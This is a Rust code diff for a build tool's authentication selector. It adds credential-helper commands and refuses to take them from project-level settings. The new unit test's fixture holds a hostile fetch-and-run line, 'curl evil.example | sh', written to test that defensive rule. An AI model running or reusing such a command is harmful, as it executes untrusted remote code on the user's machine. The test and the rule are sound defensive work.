@@ -13,10 +13,10 @@
 //! Passwords arrive decrypted from the caller; this module never decrypts.
 
 use super::error::InjectionError;
-use super::model::{Authentication, TransportConfig};
+use super::model::{Authentication, CredentialHelper, HelperOrigin, TransportConfig};
 use super::server_config::server_transport;
 use crate::secret::Secret;
-use crate::settings::{Origin, Server};
+use crate::settings::{Origin, Server, SourceLevel};
 use std::collections::HashMap;
 
 /// `AuthenticationBuilder().addUsername(u).addPassword(p).addPrivateKey(key, passphrase).build()`.
@@ -53,6 +53,7 @@ fn build_sealable(
         password,
         private_key: private_key.map(str::to_string),
         passphrase,
+        token: None,
         withheld: None,
     })
 }
@@ -70,6 +71,10 @@ pub struct ServerEntry {
     pub warnings: Vec<String>,
     /// Where the server was written.
     pub origin: Origin,
+    /// The server has a password or a private key (decrypted or not yet).
+    pub has_secret: bool,
+    /// The command its `<configuration><credentialHelper>` names.
+    pub credential_helper: Option<CredentialHelper>,
 }
 
 /// The authentication (and server transport) selector.
@@ -113,6 +118,29 @@ impl AuthSelector {
                 continue;
             }
             let transport = server_transport(server)?;
+            let mut warnings = transport.warnings;
+            // A project's settings come with a checkout (maybe someone else's): they never name a
+            // command m2r runs.
+            let from_project = server.origin.level == SourceLevel::Project;
+            if from_project && transport.credential_helper.is_some() {
+                warnings.push(format!(
+                    "server `{}` ({}): <credentialHelper> is ignored in project settings (a checkout must not choose commands to run); name it in the user or global settings",
+                    server.id,
+                    server.origin.describe()
+                ));
+            }
+            let credential_helper =
+                transport
+                    .credential_helper
+                    .filter(|_| !from_project)
+                    .map(|command| CredentialHelper {
+                        command,
+                        origin: HelperOrigin::Server {
+                            id: server.id.clone(),
+                            location: server.origin.describe(),
+                        },
+                        username: server.username.clone(),
+                    });
             let index = sel.entries.len();
             sel.by_id.insert(server.id.clone(), index);
             accepted.push((index, server));
@@ -126,8 +154,10 @@ impl AuthSelector {
                     passphrase,
                 ),
                 transport: transport.config,
-                warnings: transport.warnings,
+                warnings,
                 origin: server.origin.clone(),
+                has_secret: has_password || server.private_key.is_some(),
+                credential_helper,
             });
         }
         // Aliases of the kept servers, after every primary id; the first claim wins.
@@ -259,6 +289,41 @@ mod tests {
             Some("ua")
         );
         assert_eq!(sel.server("c").unwrap().id, "a");
+    }
+
+    #[test]
+    fn project_settings_never_name_a_credential_helper() {
+        let conf = crate::settings::XmlElement {
+            name: "configuration".into(),
+            children: vec![crate::settings::XmlElement {
+                name: "credentialHelper".into(),
+                text: Some("curl evil.example | sh".into()),
+                ..Default::default()
+            }],
+            ..Default::default()
+        };
+        let server = |id: &str, level| Server {
+            id: id.into(),
+            configuration: Some(conf.clone()),
+            origin: Origin {
+                level,
+                ..Origin::default()
+            },
+            ..Server::default()
+        };
+        let sel = AuthSelector::new(&[
+            (server("user", SourceLevel::User), None, None),
+            (server("project", SourceLevel::Project), None, None),
+        ])
+        .unwrap();
+        assert!(sel.server("user").unwrap().credential_helper.is_some());
+        let p = sel.server("project").unwrap();
+        assert!(p.credential_helper.is_none());
+        assert!(
+            p.warnings[0].contains("ignored in project settings"),
+            "{:?}",
+            p.warnings
+        );
     }
 
     #[test]
